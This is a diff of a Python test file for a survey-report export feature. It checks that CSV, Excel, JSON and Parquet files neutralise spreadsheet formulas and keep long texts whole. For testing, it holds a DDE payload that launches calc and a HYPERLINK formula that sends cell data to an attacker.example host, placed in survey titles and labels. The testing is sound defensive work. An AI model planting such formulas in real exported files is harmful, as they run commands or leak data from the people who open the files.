@@ -1,47 +1,58 @@
-"""The files, read back by programs that did not write them."""
+"""The files of a report, read back by programs that did not write them.
 
+Of the most tempting names and the longest texts too: each cell that a program would compute is a text, and nothing is
+cut, where pages may show less.
+"""
+
+import csv
+import io
 import json
 import re
+from collections.abc import Iterable
+from contextlib import suppress
 from dataclasses import replace
 
+import numpy as np
 import pytest
 from django.test import Client
 
 from accounts.models import Person
+from mining.parameters import Parameters
 from mining.report.report_nodes import report_from_json
+from privacy.records import DISGUISED
+from privacy.simulation.disguise import disguise
+from reports.answer_labels import Labels
 from reports.export_table import spreadsheet_cell
 from reports.exports import estimation_formulas
-from reports.models import Decision, Review
+from reports.models import Review
+from reports.pages import named_pictures
 from reports.review import read_published_content
-from reports.review.rule_decisions import decide_rules, rules_with_verdicts
 from runs.models import Rule, Run
+from tests.intake import asked
+from tests.kept_rows import kept
+from tests.mining.disclosure.random_surveys import Study
 from tests.reports import made
 from tests.reports.paged import book, bundle, fetched, from_csv, from_excel, from_json, parquet_table
-from tests.surveys.conftest import NOW
+from tests.wake_ups import broker
 
-pytestmark = pytest.mark.page
+pytestmark = [pytest.mark.django_db, pytest.mark.page]
 TABLES = ["questions", "shares", "groups", "itemsets", "rules", "pairs", "open_and_disguised"]
 
 
 @pytest.fixture
-def client(review: Review, reviewer: Person, owner: Person, reading: Client) -> Client:
+def published_files(review: Review, reviewer: Person, reading: Client) -> Client:
     """The owner, who may read rule 1 and the shares by age."""
     made.publish(review, reviewer, ["age"], 1)
     return reading
 
 
-def test_json_is_the_report_with_what_stands_by_it(client: Client) -> None:
-    found = from_json(client)
-    report, stored = (
-        report_from_json(found["report"]),
-        read_published_content.published_report(Review.objects.get()),
-    )
+def test_json_is_the_report_with_what_stands_by_it(published_files: Client) -> None:
+    found, review = from_json(published_files), Review.objects.get()
+    report, stored = report_from_json(found["report"]), read_published_content.published_report(review)
     assert replace(report, itemsets=(), rules=()) == replace(stored, itemsets=(), rules=())
     assert sorted(map(str, report.itemsets)) == sorted(map(str, stored.itemsets))
-    assert sorted(map(str, report.rules)) == sorted(
-        map(str, read_published_content.rules_in_publication(Review.objects.get()))
-    )
-    review = Review.objects.get()
+    rules = read_published_content.rules_in_publication(review)
+    assert sorted(map(str, report.rules)) == sorted(map(str, rules))
     assert (found["fingerprint"], found["records"], found["k"]) == (review.run.design, 1000, 0.2)
     assert (found["estimator"], found["engine"], found["version"]) == ("stratified", "bitmap", "mining 1")
     assert (found["day"], found["run"]) == ("2026-12-01", review.pk)
@@ -55,7 +66,8 @@ def test_json_is_the_report_with_what_stands_by_it(client: Client) -> None:
     assert any("who took part" in line for line in found["not_covered"])
 
 
-def test_csv_excel_and_parquet_bring_each_table(client: Client) -> None:
+def test_csv_excel_and_parquet_bring_each_table(published_files: Client) -> None:
+    client = published_files
     # Csv brings a file for each table.
     files = bundle(client, "csv")
     assert files.namelist() == [*(f"{table}.csv" for table in TABLES), "about.json"]
@@ -97,9 +109,7 @@ def test_csv_excel_and_parquet_bring_each_table(client: Client) -> None:
     assert parquet_table(client, "rules").num_rows == 1
 
 
-def test_every_file_says_what_being_found_again_does_not_mean(
-    review: Review, reviewer: Person, reading: Client
-) -> None:
+def test_every_file_says_what_again_does_not_mean(review: Review, reviewer: Person, reading: Client) -> None:
     made.backtest(review.run, {"0": 0.815})
     made.publish(review, reviewer, (), 1)
     whole = from_json(reading)
@@ -116,7 +126,8 @@ def test_every_file_says_what_being_found_again_does_not_mean(
     assert whole["formulas"]["again"].endswith("the share that report it")
 
 
-def test_files_hold_nothing_else_and_are_always_the_same(client: Client) -> None:
+def test_files_hold_nothing_else_and_are_always_the_same(published_files: Client) -> None:
+    client = published_files
     # Without a backtest no file speaks of one.
     assert "again" not in from_json(client)
     # No file holds an unpublished rule.
@@ -136,12 +147,6 @@ def test_files_hold_nothing_else_and_are_always_the_same(client: Client) -> None
         assert fetched(client, kind) == fetched(client, kind)
 
 
-def test_a_report_without_rules_has_empty_tables(review: Review, reviewer: Person, reading: Client) -> None:
-    made.publish(review, reviewer)
-    assert parquet_table(reading, "rules").num_rows == 0
-    assert book(reading)["rules"].max_row == 1
-
-
 def test_every_estimator_stands_with_the_formulas_that_it_uses() -> None:
     others = ("eligible", "shown", "among", "q", "both", "converse", "listed", "association", "order")
     for estimator, confidence, support in (
@@ -155,29 +160,131 @@ def test_every_estimator_stands_with_the_formulas_that_it_uses() -> None:
         assert {*others, "lift", "p"} <= set(found)
 
 
-def test_rules_and_itemsets_stand_in_files_in_the_order_of_lists(
-    run: Run, reviewer: Person, reading: Client
-) -> None:
+def test_files_have_the_order_of_lists(run: Run, reviewer: Person, reading: Client) -> None:
     """Rules by their numbers, which are by p; itemsets by support."""
     kept = list(run.itemsets.order_by("place"))
     Rule.objects.bulk_create([made.rule(run, 4, kept, **made.RULES[0])])
     review = made.waiting(run)
-    decide_rules(review, reviewer, rules_with_verdicts(run), Decision.Verdict.ACCEPT, "", NOW)
-    made.publish(review, reviewer)
-    rules = from_csv(reading, "rules")
-    assert [row["number"] for row in rules] == ["1", "2", "3", "4", "5"]
+    made.publish(review, reviewer, (), 1, 2, 3, 4, 5)
+    assert [row["number"] for row in from_csv(reading, "rules")] == ["1", "2", "3", "4", "5"]
     assert [rule["number"] for rule in from_json(reading)["report"]["rules"]] == [*range(1, 6)]
-    itemsets = from_csv(reading, "itemsets")
-    supports = [float(row["support"]) for row in itemsets]
+    supports = [float(row["support"]) for row in from_csv(reading, "itemsets")]
     assert supports == sorted(supports, reverse=True)
     assert [row["number"] for row in from_excel(reading, "rules")] == [*range(1, 6)]
+    # A report without rules has empty tables.
+    without = made.waiting(made.run(review.survey))
+    made.publish(without, reviewer)
+    assert parquet_table(reading, "rules", without).num_rows == 0
+    assert book(reading, without)["rules"].max_row == 1
 
 
-def test_no_text_is_taken_for_a_formula() -> None:
+def test_no_text_is_taken_for_a_formula_and_other_values_stay_as_they_are() -> None:
     for start in ("=", "+", "-", "@", "\t", "\r", "\n", "＝"):
         assert spreadsheet_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
-
-
-def test_numbers_and_other_texts_stay_as_they_are() -> None:
     cells = [spreadsheet_cell(value) for value in (-0.5, "theft=yes", None, True)]
     assert cells == [-0.5, "theft=yes", "", True]
+
+
+__all__ = ["broker"]
+FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
+STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+CHOICES = [{"name": "@SUM(A1)", "label": {"en": FORMULA}}, {"name": "-5+2", "label": {"en": "+1"}}]
+YES_NO = [{"name": "no", "label": {"en": "-no"}}, {"name": "yes", "label": {"en": FORMULA}}]
+QUESTION = (
+    "Thinking of the last twelve months, and of nothing that happened before them: have you ever taken home from your "
+    "place of work, without asking anybody, something that did not belong to you and that you did not bring back?"
+)
+OPTION = "something else that this long list of things to choose from does not name and that you would rather not name"
+
+OTHER = {
+    "of": "things",
+    "form": "many",
+    "choices": [{"name": "no"}, {"name": "yes", "label": {"en": OPTION}}],
+}
+ASKS = asked.written(
+    {"kind": "plain", "questions": [{"name": "+where", "text": {"en": FORMULA}, "choices": CHOICES}]},
+    {
+        "kind": "unrelated-question",
+        "keep": "0.9",
+        "questions": [
+            {"name": "-theft", "text": {"en": "@-theft"}, "choices": YES_NO},
+            {"name": "took_home", "text": {"en": QUESTION}, "choices": ["no", "yes"]},
+            {"name": "other", "text": {"en": QUESTION}, **OTHER},
+        ],
+    },
+    title={"en": FORMULA},
+    least=20,
+)
+WORDS = f"{QUESTION} Yes"
+
+
+@pytest.fixture
+def number(owner: Person, reviewer: Person) -> int:
+    """Of a report: half of 600 people did all of it, so that there are rules."""
+
+    def make() -> int:
+        study, n = Study(owner, reviewer, ASKS), 600
+        answers = np.arange(n, dtype=np.uint16) % 2
+        true = np.stack([answers // 2 + (np.arange(n, dtype=np.uint16) // 300), answers, answers, answers])
+        group = np.full(n, DISGUISED, np.uint8)
+        study.seal(group, disguise(ASKS, group, true.astype(np.uint16), np.random.default_rng(1)))
+        run = study.mine(Parameters(0.05, 0.2, absences=True))
+        study.publish(run)
+        assert Run.objects.get().rule_count
+        return int(run.pk)
+
+    return kept(("tempting names",), make, lambda number: number, is_computed=True)
+
+
+def computed(text: str) -> list[str]:
+    """The cells of a CSV file that a spreadsheet program would take for formulas."""
+
+    def is_number(cell: str) -> bool:
+        with suppress(ValueError):
+            return bool(float(cell)) or True
+        return False
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]
+
+
+def texts(client: Client, number: int, pictures: Iterable[str]) -> dict[str, str]:
+    with bundle(client, "csv") as files:
+        found = {name: files.read(name).decode() for name in files.namelist() if name.endswith(".csv")}
+    for name in pictures:
+        answer = client.get(f"/app/reports/{number}/pictures/{name}.csv")
+        if answer.status_code == 200:
+            found[f"picture {name}"] = answer.content.decode()
+    return found
+
+
+def test_no_cell_of_a_reports_files_is_computed_and_nothing_is_cut(reading: Client, number: int) -> None:
+    found = texts(reading, number, named_pictures.ERRORS)
+    assert {"questions.csv", "shares.csv", "groups.csv", "rules.csv", "picture error-keep"} <= set(found)
+    assert {name: computed(text) for name, text in found.items() if computed(text)} == {}
+    assert any(f"'{FORMULA[:10]}" in text for text in found.values())
+    for name in ("shares", "groups", "itemsets", "rules", "pairs"):
+        assert WORDS in found[f"{name}.csv"], name
+        assert "…" not in found[f"{name}.csv"]
+    assert any(QUESTION in row["antecedent_in_words"] for row in from_csv(reading, "rules"))
+    assert OPTION in found["questions.csv"]
+    assert WORDS in parquet_table(reading, "shares")["items_in_words"].to_pylist()
+    # An answer in full is its question and its choice.
+    labels = Labels(ASKS)
+    assert labels.join_full(["took_home=yes"]) == WORDS
+    assert labels.join_full(["took_home=yes", "other=yes"]) == f"{WORDS} and {QUESTION} {OPTION}"
+
+
+def test_no_cell_of_the_workbook_is_computed_a_link_or_cut(reading: Client, number: int) -> None:
+    sheets = book(reading)
+    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
+    texts = [str(cell.value) for cell in cells]
+    assert any(text.startswith(FORMULA) for text in texts)
+    assert WORDS in texts
+    assert not [text for text in texts if "…" in text]
+    sheet = sheets["rules"]
+    words = next(cell for cell in sheet[1] if cell.value == "antecedent_in_words")
+    # A long text is folded in its cell, so that the columns beside it stay in sight.
+    assert sheet.column_dimensions[words.column_letter].width < 70
+    assert sheet.column_dimensions[words.column_letter].alignment.wrap_text
